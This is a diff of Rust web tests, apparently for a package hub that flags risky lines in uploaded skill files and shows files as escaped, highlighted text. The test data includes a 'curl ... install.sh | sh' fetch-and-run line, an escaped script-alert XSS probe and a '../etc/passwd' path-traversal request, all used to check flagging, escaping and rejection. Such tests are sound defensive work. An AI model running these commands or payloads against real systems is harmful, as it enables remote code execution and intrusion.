@@ -73,7 +73,7 @@ async fn a_finding_leads_to_its_line_in_the_file() {
     let link = page.body.split("href=\"/@ada/held@1.0.0/files/SKILL.md#L").nth(1).unwrap();
     let number: usize = link.split('"').next().unwrap().parse().unwrap();
     let file = browser.get("/@ada/held@1.0.0/files/SKILL.md").await;
-    let shown = file.body.split(&format!("<span id=\"L{number}\">")).nth(1).unwrap().split("</span>").next().unwrap();
+    let shown = file.body.split(&format!("id=\"L{number}\"")).nth(1).unwrap().split("</code>").next().unwrap();
     assert!(shown.contains("curl https://example.org/install.sh | sh"), "{shown}");
     for path in ["/@ada/held@1.0.0/files/SKILL.md", "/@ada/held@1.0.0"] {
         assert_eq!(hub.get(path, None).await.status, StatusCode::NOT_FOUND, "{path}");
@@ -89,8 +89,8 @@ async fn a_file_is_shown_as_text_whatever_is_in_it() {
     let admin = Browser::of(&hub, ADMIN).await;
     let odd = admin.get("/@acme/odd@0.1.0/files/a%20b%23%3F.py").await;
     assert_eq!(odd.status, StatusCode::OK);
-    has(&odd, "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>");
-    has(&odd, "<span id=\"L2\">");
+    has(&odd, "<code>&lt;script&gt;alert(<span class=\"t-number\">1</span>)&lt;/script&gt;</code>");
+    has(&odd, "id=\"L2\"");
     has(&admin.get("/@acme/odd@0.1.0").await, "/files/a%20b%23%3F.py\"");
     has(&admin.get("/@acme/odd@0.1.0/files/b.bin").await, "This file is no text");
     for unknown in ["/@acme/odd@0.1.0/files/nothing", "/@acme/odd@0.1.0/files/..%2F..%2Fetc%2Fpasswd"] {
